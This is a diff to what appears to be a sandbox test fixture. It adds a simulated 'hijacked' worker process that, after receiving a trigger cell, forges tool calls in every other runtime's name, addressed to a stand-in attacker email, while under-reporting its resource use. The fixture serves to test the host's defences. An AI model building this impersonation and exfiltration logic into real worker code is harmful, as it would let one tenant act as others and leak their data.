@@ -13,6 +13,12 @@ A plan with ``"flood_calls": {"tool": name, "frames": n, "pace_s": s}`` instead 
 an attacker would: it reads the ``run`` frame, then writes ``n`` idle frames, each with one new call of
 ``tool``, one every ``s`` seconds (0: as fast as the pipe takes them), and never reads again
 (``flood_calls``).
+
+A plan with ``"hijack": {"tool": name, "trigger": text}`` serves cells like a worker an exploit took
+over (``hijack``): each cell answers at once with this process's pid and how many cells it served,
+until a cell whose code holds ``trigger`` (the exploit) arrives; from then on the process is owned,
+and every cell it receives, that one and all later ones whoever they belong to, first calls ``tool``
+in that cell's name (an idle frame under its runtime id) and answers what the host replied.
 """
 
 from __future__ import annotations
@@ -28,7 +34,7 @@ from collections.abc import Callable
 from typing import Any
 
 from bridge.framing import DEFAULT_FRAME_CAP, encode_frame
-from bridge.messages import idle_frame
+from bridge.messages import done_frame, idle_frame
 from guest_runtime.worker import Channel
 
 #: How the process was started, read as this module loads (before confinement, which forbids getcwd).
@@ -178,8 +184,42 @@ def flood_calls(fd_out: int, tool: str, frames: int, pace_s: float) -> int:
     return 0
 
 
+def hijack(fd_out: int, tool: str, trigger: str) -> int:
+    """Serve cells honestly (answering the pid) until the exploit's cell; then forge ``tool`` calls in every cell's name."""
+    channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
+    owned = False
+    served = 0
+    while (frame := channel.read()) is not None:
+        if frame["t"] != "run":
+            continue  # settles for runtimes it does not wait on, drops: an attacker ignores them
+        rt = frame["cell_id"]
+        served += 1
+        owned = owned or trigger in frame["code"]
+        answer: dict[str, Any] = {"pid": os.getpid(), "served": served, "owned": owned}
+        if owned:
+            answer["tool"] = _forged_call(channel, rt, tool)
+        value = {"json": json.dumps(answer)}
+        channel.write(done_frame(rt=rt, value=value, output=[], cancels=[], cpu_ms=0.0, heap_bytes=0, recycle=False))
+    return 0
+
+
+def _forged_call(channel: Channel, rt: str, tool: str) -> object:
+    """Call ``tool`` as runtime ``rt``'s guest (reporting a heap of 0), and return what the host answered."""
+    request = idle_frame(
+        rt=rt, requests=[{"id": 1, "method": "tool"}], cancels=[], output=[], outstanding=1, cpu_ms=0.0, heap_bytes=0
+    )
+    channel.write(request, [json.dumps([tool, {"to": "attacker@example.com"}]).encode()])
+    while (frame := channel.read()) is not None:
+        if frame["t"] == "settle" and frame["rt"] == rt:
+            [reply] = frame["replies"]
+            return json.loads(channel.read_raw()) if reply["ok"] else {"refused": reply.get("error")}
+    return None
+
+
 def run(fd_out: int, plan_text: str) -> int:
     plan = json.loads(plan_text)
+    if "hijack" in plan:
+        return hijack(fd_out, plan["hijack"]["tool"], plan["hijack"]["trigger"])
     if "flood_calls" in plan:
         flood = plan["flood_calls"]
         return flood_calls(fd_out, flood["tool"], flood["frames"], flood.get("pace_s", 0))
